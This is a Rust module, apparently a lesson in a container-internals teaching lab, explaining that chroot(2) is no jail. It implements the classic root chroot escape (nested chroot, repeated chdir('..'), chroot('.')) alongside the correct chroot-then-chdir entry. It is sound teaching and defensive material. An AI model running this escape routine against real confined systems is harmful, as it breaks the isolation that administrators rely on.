//! Lesson 01: `chroot(2)`, a different `/`, and why it is not a jail.
//!
//! `chroot(dir)` changes one attribute of the calling process: the directory
//! that absolute paths (and `..` at the top) resolve against. It changes
//! nothing else: not the mount table, not the current directory, not what
//! the process may do. The chroot(2) man page says so plainly: "This call
//! does not change the current working directory" and "it is not intended
//! to be used for any kind of security purpose". A root process can leave
//! with a second chroot, which [`escape`] demonstrates.

use crate::{narrate, syscall};
use nix::errno::Errno;
use nix::sys::stat::stat;
use std::path::{Path, PathBuf};

/// What can go wrong while entering or escaping a chroot.
#[derive(Debug, thiserror::Error)]
pub enum ChrootError {
    /// `chdir(2)` failed.
    #[error("failed to change directory to {}", path.display())]
    Chdir {
        /// The target directory.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
    /// `chroot(2)` failed.
    #[error("failed to change the root directory to {}", path.display())]
    Chroot {
        /// The new root.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
    /// `stat(2)` failed.
    #[error("failed to stat {}", path.display())]
    Stat {
        /// What was looked at.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
    /// `mkdir(2)` or `rmdir(2)` of the escape directory failed.
    #[error("failed to {step} the escape directory {}", path.display())]
    EscapeDir {
        /// "create" or "remove".
        step: &'static str,
        /// The directory.
        path: PathBuf,
        /// The kernel's answer.
        #[source]
        source: Errno,
    },
}

/// Changes the current directory. See chdir(2).
pub fn chdir(path: &Path) -> Result<(), ChrootError> {
    syscall::chdir(path).map_err(|source| ChrootError::Chdir {
        path: path.into(),
        source,
    })
}

/// Changes the root directory. See chroot(2).
pub fn chroot(path: &Path) -> Result<(), ChrootError> {
    syscall::chroot(path).map_err(|source| ChrootError::Chroot {
        path: path.into(),
        source,
    })
}

/// Enters `rootfs` the way it should be done: chroot, then `chdir("/")`.
///
/// The order matters. `chroot` leaves the current directory where it was,
/// possibly outside the new root; forgetting the `chdir` afterwards is the
/// hole the classic escape goes through.
// ANCHOR: enter
pub fn enter(rootfs: &Path) -> Result<(), ChrootError> {
    chroot(rootfs)?;
    chdir(Path::new("/"))?;
    narrate::explain("absolute paths now resolve inside the rootfs; nothing else changed");
    Ok(())
}
// ANCHOR_END: enter

/// Identifies a directory by device and inode, to tell two `/`s apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DirId {
    dev: u64,
    ino: u64,
}

/// The identity of `path` as seen by the calling process.
pub fn dir_id(path: &Path) -> Result<DirId, ChrootError> {
    let st = stat(path).map_err(|source| ChrootError::Stat {
        path: path.into(),
        source,
    })?;
    Ok(DirId {
        dev: st.st_dev,
        ino: st.st_ino,
    })
}

/// How far the escape got.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EscapeOutcome {
    /// The process's `/` is now the host's `/`.
    ReachedHostRoot,
    /// The climb stopped at a `/` that is not the host's.
    StayedInside,
}

/// The name of the escape directory a lesson with PID `lesson_pid` makes
/// at the top of its rootfs: one per run, so that twenty escapes at once do
/// not pull each other's directory away. `nslab cleanup` removes those a
/// killed lesson left.
pub fn escape_dir_name(lesson_pid: u32) -> String {
    format!("{ESCAPE_PREFIX}{lesson_pid}")
}

/// The escape directory's name before the lesson's PID.
pub const ESCAPE_PREFIX: &str = ".nslab-escape-";

/// The classic chroot escape, for a process that is root inside a chroot.
///
/// 1. `mkdir("/.nslab-escape-PID")` and `chroot` into it: the root moves
///    one level down, but the current directory stays where it was, which
///    is now *above* the root.
/// 2. `chdir("..")` again and again: the kernel stops `..` only at the
///    process's root, and the current directory is no longer beneath it, so
///    nothing stops the climb until the top of the mount namespace.
/// 3. `chroot(".")`: make wherever we ended up the root.
///
/// `host_root` is the identity of the host's `/`, taken before the first
/// chroot, so the outcome can be told honestly. `rootfs_on_host` is the
/// rootfs's path as seen from the host, used to remove the escape directory
/// after a successful escape, so the demo leaves nothing behind.
// ANCHOR: escape
pub fn escape(
    host_root: DirId,
    rootfs_on_host: &Path,
    dir_name: &str,
) -> Result<EscapeOutcome, ChrootError> {
    let inner = Path::new("/").join(dir_name);
    let escape_dir_error = |step, path: &Path| {
        let path = path.to_path_buf();
        move |source| ChrootError::EscapeDir { step, path, source }
    };
    syscall::mkdir(&inner, 0o700).map_err(escape_dir_error("create", &inner))?;
    chroot(&inner)?;
    narrate::explain(format!(
        "the root moved down into {}, but our current directory did not:\n\
         it is now outside our root, where `..` is never stopped",
        inner.display()
    ));

    // Climb until "." and ".." are the same directory: the top of the tree.
    let mut climbs = 0;
    while dir_id(Path::new("."))? != dir_id(Path::new(".."))? && climbs < 256 {
        chdir(Path::new(".."))?;
        climbs += 1;
    }
    chroot(Path::new("."))?;

    let outcome = if dir_id(Path::new("/"))? == host_root {
        narrate::warning(format!(
            "escaped: after {climbs} × chdir(\"..\") our / is the host's /"
        ));
        // Now outside, remove the escape directory by its host path.
        let on_host = rootfs_on_host.join(dir_name);
        syscall::rmdir(&on_host, "").map_err(escape_dir_error("remove", &on_host))?;
        EscapeOutcome::ReachedHostRoot
    } else {
        narrate::success(format!("no escape: after {climbs} × chdir(\"..\") the top of the tree is still the container's /"));
        syscall::rmdir(&inner, "").map_err(escape_dir_error("remove", &inner))?;
        EscapeOutcome::StayedInside
    };
    chdir(Path::new("/"))?;
    Ok(outcome)
}
// ANCHOR_END: escape
